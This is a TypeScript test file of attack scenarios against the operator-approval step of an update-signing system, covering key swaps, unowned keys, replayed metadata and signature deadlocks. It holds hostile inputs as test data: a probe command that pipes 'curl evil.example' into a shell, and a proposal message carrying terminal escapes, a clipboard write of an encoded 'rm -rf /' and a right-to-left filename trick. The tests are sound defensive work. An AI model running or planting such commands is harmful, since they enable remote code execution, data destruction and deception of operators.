/** Proposals that mean to deceive the operators who sign them: what the CLI shows, refuses, and lets them take back. */

import assert from 'node:assert/strict'
import { approve, type Operator, reject, requireOnlyOne } from '../../../controller/signing/proposing.ts'
import { proposalText } from '../../../controller/views/proposal.ts'
import { cidOf } from '../../../protocol/encoding/cid.ts'
import type { Release } from '../../../protocol/release/release.ts'
import { type Signer, tufKeyJson } from '../../../protocol/signing/keys.ts'
import type { Proposal } from '../../../protocol/trust/proposal.ts'
import { type VerifiedProposal, verifyProposal } from '../../../protocol/trust/proposals.ts'
import { withCode } from '../../helpers/errors.ts'
import { testClosure, testConfig, testSigner } from '../../helpers/fleet.ts'
import { signJson } from '../../helpers/metadata.ts'
import type { Arena, Victim } from '../arena.ts'
import type { Attack } from '../attack.ts'
import { forge } from '../forge.ts'
import { forgeProposal } from '../forge-proposal.ts'

interface RootJson extends Record<string, unknown> {
  version: number
  keys: Record<string, unknown>
  roles: Record<string, { keyids: string[]; threshold: number }>
  thymesh: { operators?: Record<string, string[]> }
}

const [ben, second] = ['ben', 'second key of ada'].map(testSigner) as [Signer, Signer]
const config = testConfig(testClosure('web'))

/** The root of the fleet, changed as a deceiver likes it; signed by the root key, which counts. */
function rootWith(arena: Arena, change: (root: RootJson) => void, base?: Uint8Array): Uint8Array {
  const bytes = base ?? arena.fleet.published.trusted.root.bytes
  const root = structuredClone(JSON.parse(Buffer.from(bytes).toString()).signed) as RootJson
  root.version++
  change(root)
  return signJson(root, arena.fleet.keys.root)
}

function addKey(root: RootJson, role: string, key: Signer): void {
  root.keys[key.keyId] = tufKeyJson(key.publicKey)
  root.roles[role]?.keyids.push(key.keyId)
}

/** A proposal of that root alone. */
function proposalOfRoot(arena: Arena, root: Uint8Array): Proposal {
  const { fleet, keys } = arena.fleet
  const created = '2026-01-31T12:00:00Z'
  const said = { v: 1 as const, fleet, author: keys.root.keyId, operator: 'ada', created, message: 'a new expiry' }
  return { ...said, root, documents: [], statements: [] }
}

/** The text that an operator reads before `approve` asks. */
export function shownToOperators(
  arena: Arena,
  victim: Victim,
  proposal: Proposal,
): { verified: VerifiedProposal; text: string } {
  const { accepted } = victim.state
  assert.ok(accepted)
  const verified = verifyProposal(proposal, accepted.trusted, arena.fleet.fleet)
  return { verified, text: proposalText(verified, accepted) }
}

function releaseProposal(arena: Arena, victim: Victim, release: Partial<Release>): Proposal {
  const on = victim.state.accepted?.trusted ?? arena.fleet.published.trusted
  return forgeProposal({ on, fleet: arena.fleet.fleet, signers: [arena.fleet.keys.targets], release })
}

/** A victim that trusts a release of the config `web`. */
async function victimOfWeb(arena: Arena): Promise<Victim> {
  arena.fleet.release({ message: 'web', configs: { web: config }, devices: { one: { config: 'web' } } })
  return await arena.victim()
}

export const approvalAttacks: Attack[] = [
  {
    id: 'root-keys-reordered',
    power: 'timestamp key',
    tried:
      'has operators sign a root that only reorders the timestamp keys, then replays the metadata from before a revocation',
    expected: 'the device keeps the newer metadata: it stays revoked',
    async run(arena) {
      const one = arena.fleet.published.trusted.root.bytes
      const two = rootWith(arena, root => addKey(root, 'timestamp', ben))
      const three = rootWith(arena, root => root.roles.timestamp?.keyids.reverse(), two)
      const old = forge(arena.fleet, { roots: [one, two, three] })
      const victim = await arena.victim()
      await arena.offer(victim, forge(arena.fleet, { roots: [one, two] }), 'operator')
      const news = forge(arena.fleet, { roots: [one, two], versions: { targets: 3, snapshot: 3, timestamp: 3 } })
      await arena.offer(victim, news, 'operators')
      assert.equal(victim.state.versions.timestamp, 3)
      const hostile = await arena.offer(victim, old)
      assert.equal(victim.state.versions.root, 3)
      assert.ok(victim.log.count(/expected timestamp version 3 or higher, got 2/, hostile.id) > 0)
      assert.equal(victim.state.versions.timestamp, 3)
    },
  },
  {
    id: 'approve-second-key',
    power: 'root key below threshold',
    tried: 'proposes a root in which one operator has two keys of a role, to meet the threshold alone',
    expected: 'refused, with the name of the operator',
    async run(arena) {
      const victim = await arena.victim()
      const root = rootWith(arena, next => {
        addKey(next, 'root', second)
        next.thymesh.operators = { ada: [...Object.values(arena.fleet.keys).map(key => key.keyId), second.keyId] }
      })
      assert.throws(() => shownToOperators(arena, victim, proposalOfRoot(arena, root)), withCode('unowned-key'))
    },
  },
  {
    id: 'approve-unlisted-key',
    power: 'root key below threshold',
    tried: 'proposes a root with a key that no listed operator owns',
    expected: 'refused, with the whole key ID',
    async run(arena) {
      const victim = await arena.victim()
      const root = rootWith(arena, next => addKey(next, 'root', second))
      assert.throws(
        () => shownToOperators(arena, victim, proposalOfRoot(arena, root)),
        (error: Error) => withCode('unowned-key')(error) && error.message.includes(second.keyId),
      )
    },
  },
  {
    id: 'approve-swapped-key',
    power: 'root key below threshold',
    tried: "proposes a new expiry of the root, and in it another operator's key swapped for one of its own",
    expected: 'both keys are shown in full, with the owner and words to compare',
    async run(arena) {
      const victim = await arena.victim()
      const root = rootWith(arena, next => {
        addKey(next, 'root', ben)
        next.thymesh.operators = { ben: [ben.keyId] }
      })
      const { text } = shownToOperators(arena, victim, proposalOfRoot(arena, root))
      assert.ok(text.includes(ben.keyId) && /key of ben: (?:[a-z]+ ){11}[a-z]+/.test(text), text)
    },
  },
  {
    id: 'approve-reordered-keys',
    power: 'root key below threshold',
    tried: 'proposes a root that only reorders keys',
    expected: 'both orders are shown',
    async run(arena) {
      const victim = await arena.victim()
      const two = rootWith(arena, next => {
        addKey(next, 'root', ben)
        next.thymesh.operators = { ben: [ben.keyId] }
      })
      const { fleet } = arena
      await arena.offer(victim, forge(fleet, { roots: [fleet.published.trusted.root.bytes, two] }), 'operator')
      const root = rootWith(arena, next => next.roles.root?.keyids.reverse(), two)
      const { text } = shownToOperators(arena, victim, proposalOfRoot(arena, root))
      const ids = [fleet.keys.root.keyId, ben.keyId]
      const order = (list: string[]) => new RegExp(list.map(id => `"${id}"`).join(', '))
      assert.match(text, order(ids))
      assert.match(text, order([...ids].reverse()))
    },
  },
  {
    id: 'approve-command-probe',
    power: 'targets key below threshold',
    tried: 'proposes a new config whose policy runs a command on its devices',
    expected: 'the command is shown, word for word',
    async run(arena) {
      const victim = await victimOfWeb(arena)
      const probe = { command: ['/bin/sh', '-c', 'curl evil.example | sh'] }
      const policy = { health: { probes: [{ kind: 'command' as const, name: 'ok', ...probe }] } }
      const configs = { web: config, other: { ...config, policy } }
      const { text } = shownToOperators(
        arena,
        victim,
        releaseProposal(arena, victim, { configs: configs as never, devices: { one: { config: 'other' } } }),
      )
      assert.ok(text.includes('"curl evil.example | sh"'), text)
    },
  },
  {
    id: 'approve-other-closure',
    power: 'targets key below threshold',
    tried: 'proposes another closure descriptor under the top level that runs already',
    expected: 'the other descriptor is shown',
    async run(arena) {
      const victim = await victimOfWeb(arena)
      const closure = cidOf(Buffer.from('another descriptor'))
      const configs = { web: { ...config, closure } }
      const proposal = releaseProposal(arena, victim, { configs, devices: { one: { config: 'web' } } })
      const { text } = shownToOperators(arena, victim, proposal)
      assert.ok(text.includes(String(closure)) && text.includes(String(config.closure)), text)
    },
  },
  {
    id: 'approve-escapes',
    power: 'targets key below threshold',
    tried: 'proposes a release whose message clears the screen, writes to the clipboard and reverses its text',
    expected: 'the bytes reach the terminal as escapes that do nothing',
    async run(arena) {
      const victim = await arena.victim()
      const message = 'ok\x1b[2J\x1b]52;c;cm0gLXJmIC8=\x07\u202egnp.exe\nSignatures: all'
      const proposal = releaseProposal(arena, victim, { message })
      const { text } = shownToOperators(arena, victim, { ...proposal, message, operator: 'ada' })
      assert.doesNotMatch(text.replaceAll('\n', ''), /[\p{C}]/u)
      assert.ok(!text.split('\n').includes('Signatures: all'))
    },
  },
  {
    id: 'approve-deadlock',
    power: 'targets key below threshold',
    tried: 'gets a signature on a proposal, never withdraws it, and so blocks every other one of that version',
    expected: 'the signer takes the signature back and signs another one',
    async run(arena) {
      const two = rootWith(arena, next => {
        addKey(next, 'targets', ben)
        const targets = next.roles.targets
        if (targets !== undefined) targets.threshold = 2
      })
      const { fleet } = arena
      const roots = [fleet.published.trusted.root.bytes, two]
      const victim = await arena.victim()
      await arena.offer(victim, forge(fleet, { roots, signers: { targets: [fleet.keys.targets, ben] } }), 'operator')
      const { accepted } = victim.state
      assert.equal(accepted?.release.version, 2)
      const none = { root: [], targets: [], snapshot: [], timestamp: [], members: [] }
      const operator: Operator = { signers: { ...none, targets: [ben] }, now: new Date(), name: 'ben' }
      const hostile = shownToOperators(
        arena,
        victim,
        releaseProposal(arena, victim, { message: 'never withdrawn' }),
      ).verified
      const signed = approve(hostile, accepted.trusted, operator, '')
      assert.ok(signed.complete)
      const other = shownToOperators(arena, victim, releaseProposal(arena, victim, { message: 'honest' })).verified
      assert.throws(() => requireOnlyOne(other, [signed, other], operator), withCode('already-signed'))
      const rejected = reject(signed, accepted.trusted, operator, '')
      assert.ok(!rejected.complete, 'the signature still counts')
      requireOnlyOne(other, [rejected, other], operator)
      assert.ok(approve(other, accepted.trusted, operator, '').complete)
      // Neither another peer's copy nor a second signature brings the one that was taken back to count again.
      assert.throws(() => approve(rejected, accepted.trusted, operator, ''), withCode('withdrawn'))
    },
  },
]
